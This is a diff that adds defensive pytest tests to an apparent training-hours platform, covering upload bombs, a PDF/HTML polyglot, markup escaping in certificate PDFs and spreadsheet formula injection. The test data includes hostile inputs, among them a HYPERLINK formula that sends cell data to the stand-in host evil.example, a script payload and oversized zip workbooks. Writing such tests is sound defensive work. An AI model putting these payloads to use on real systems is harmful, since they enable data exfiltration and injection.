@@ -267,3 +267,143 @@ def test_no_id_number_can_be_recovered_from_the_audit_log(app, api, world):
         for hours in ("1", "1.0", "1.00"):
             text = "|".join(["platform", candidate, "审计探测课程", "public", "2026-03-01", hours])
             assert hashlib.sha256(text.encode()).hexdigest() != logged["dedupe_key"]
+
+
+# 3. Uploads within bounds before parsing; text is text in every output -----------------------
+
+def _zip(entries: dict[str, bytes]) -> bytes:
+    import zipfile
+
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
+        for name, data in entries.items():
+            archive.writestr(name, data)
+    return buf.getvalue()
+
+
+def _workbook_parts(sheet_xml: bytes, shared: bytes | None = None) -> dict[str, bytes]:
+    """The parts of a real one-sheet workbook, with this sheet (and shared strings)."""
+    import zipfile
+
+    parts = {}
+    with zipfile.ZipFile(io.BytesIO(xlsx([["a", "b"]], ["身份证号", "姓名"]))) as archive:
+        for name in archive.namelist():
+            parts[name] = archive.read(name)
+    parts["xl/worksheets/sheet1.xml"] = sheet_xml
+    if shared is not None:
+        parts["xl/sharedStrings.xml"] = shared
+    return parts
+
+
+SHEET_HEAD = (b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
+              b'spreadsheetml/2006/main">')
+
+
+def _refused_fast(api, body: bytes):
+    import time
+    import tracemalloc
+
+    tracemalloc.start()
+    started = time.perf_counter()
+    resp = post_file(api, "unit_reviewer", "/api/v1/eligibility/bulk", body, "bomb.xlsx", year="2026")
+    elapsed = time.perf_counter() - started
+    _current, peak = tracemalloc.get_traced_memory()
+    tracemalloc.stop()
+    assert resp.status_code == 400, resp.json
+    assert elapsed < 1.0 and peak < 30 * 1024 * 1024, (elapsed, peak)
+    return resp
+
+
+def test_a_small_workbook_declaring_a_million_rows_is_refused_at_once(api):
+    sheet = SHEET_HEAD + b'<dimension ref="A1:B1000000"/><sheetData><row r="1"><c r="A1" t="inlineStr">' \
+        b'<is><t>x</t></is></c></row></sheetData></worksheet>'
+    body = _zip(_workbook_parts(sheet))
+    assert len(body) < 8000
+    resp = _refused_fast(api, body)
+    assert "太大" in str(resp.json["message"]) or "最多" in str(resp.json["message"])
+
+
+def test_a_huge_shared_string_is_refused_before_it_is_read(api):
+    shared = (b'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/'
+              b'spreadsheetml/2006/main" count="1" uniqueCount="1"><si><t>' + b"a" * (100 * 1024 * 1024)
+              + b"</t></si></sst>")
+    body = _zip(_workbook_parts(SHEET_HEAD + b"<sheetData/></worksheet>", shared))
+    del shared
+    assert len(body) < 200 * 1024
+    _refused_fast(api, body)
+
+
+def test_empty_rows_count_towards_the_row_limit(api, monkeypatch):
+    from app.services import sheets
+
+    monkeypatch.setattr(sheets, "MAX_ROWS", 50)
+    rows = b"".join(b'<row r="%d"/>' % n for n in range(2, 200))
+    sheet = SHEET_HEAD + b'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>\xe8\xba\xab\xe4\xbb\xbd' \
+        b'\xe8\xaf\x81\xe5\x8f\xb7</t></is></c><c r="B1" t="inlineStr"><is><t>\xe5\xa7\x93\xe5\x90\x8d' \
+        b'</t></is></c></row>' + rows + b"</sheetData></worksheet>"
+    resp = post_file(api, "unit_reviewer", "/api/v1/eligibility/bulk", _zip(_workbook_parts(sheet)),
+                     "blank.xlsx", year="2026")
+    assert resp.status_code == 400 and "50" in str(resp.json["message"])
+
+
+def test_a_file_that_is_not_a_zip_but_says_xlsx_is_refused(api):
+    resp = post_file(api, "unit_reviewer", "/api/v1/eligibility/bulk", b"PK\x03\x04garbage", "x.xlsx",
+                     year="2026")
+    assert resp.status_code == 400
+
+
+def test_evidence_that_is_also_a_web_page_is_refused(ctx):
+    from app.services import evidence
+    from app.services.errors import BusinessError
+    from tests.samples import PDF
+
+    polyglot = PDF + b"<html><script>alert(1)</script></html>"
+    with pytest.raises(BusinessError):
+        evidence.check_all([("a.pdf", polyglot)])
+    with pytest.raises(BusinessError):
+        evidence.check_all([("report.html", PDF)])  # the extension says HTML, the bytes say PDF
+    assert evidence.check_all([("成绩单.PDF", PDF)]) == ["application/pdf"]
+    assert evidence.served_name("成绩单.html", "application/pdf") == "成绩单.pdf"
+    assert evidence.served_name("scan", "image/png") == "scan.png"
+
+
+def test_markup_in_a_title_is_literal_text_in_the_year_certificate(tmp_path, ctx):
+    from datetime import datetime
+
+    from app.pdf import report
+    from tests import pdfcheck
+
+    items = [['<img src="/etc/passwd"/>', "<b>四(二)1</b>", "2026-03-01", "1", "0", "<x>"]]
+    totals = {"compliant": False, "shortfall_public": "29", "shortfall_professional": "60",
+              "public": "1", "professional": "0", "total": "1"}
+    data = report.year_certificate(year=2026, number="<n>1", verify_url="http://127.0.0.1/v/x",
+                                   name="<i>张三</i>", id_number="370202********1234",
+                                   unit="<u>单位</u>", items=items, totals=totals,
+                                   issued_at=datetime(2026, 12, 1))
+    path = tmp_path / "year.pdf"
+    path.write_bytes(data)
+    text = pdfcheck.text(path)
+    assert '<img src="/etc/passwd"/>' in text.replace("\n", "") or "<img" in text
+    assert "<i>张三</i>" in text and "<u>单位</u>" in text
+
+
+def test_formulas_are_written_as_text_in_every_workbook_and_csv(api, world):
+    from openpyxl import load_workbook
+
+    from app.services import sheets
+
+    attack = '=HYPERLINK("http://evil.example/?x="&A1,"点此")'
+    book = load_workbook(io.BytesIO(sheets.workbook_bytes("t", ["a"], [[attack], ["+1"], ["@SUM(1)"]])))
+    cells = [row[0] for row in book.active.iter_rows(min_row=2)]
+    assert all(c.data_type == "s" for c in cells) and cells[0].value == attack
+    text = sheets.csv_bytes(["a"], [[attack], ["-2+3"], ["\tx"]]).decode("utf-8-sig")
+    assert "'=HYPERLINK" in text and "'-2+3" in text and "'\tx" in text
+    # through a real download: the answered bulk check echoes the applicant's name
+    import csv
+    buf = io.StringIO()
+    csv.writer(buf).writerows([["身份证号", "姓名"], [world.id_number["A"], attack]])
+    resp = post_file(api, "unit_reviewer", "/api/v1/eligibility/bulk", buf.getvalue().encode(),
+                     "a.csv", year="2026")
+    out = load_workbook(io.BytesIO(resp.data)).active
+    name_cell = out.cell(row=2, column=3)
+    assert name_cell.value == attack and name_cell.data_type == "s"
